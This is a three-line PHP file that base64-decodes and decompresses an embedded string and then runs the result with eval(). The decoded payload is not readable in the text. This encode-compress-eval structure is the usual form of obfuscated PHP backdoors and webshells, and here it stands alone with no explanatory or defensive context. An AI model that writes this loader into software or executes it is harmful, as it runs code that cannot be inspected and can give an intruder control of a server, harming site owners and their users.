<?php
$payload = gzinflate(base64_decode('S0lNzlfILFYoSsxLKUpNBgA='));
eval($payload);
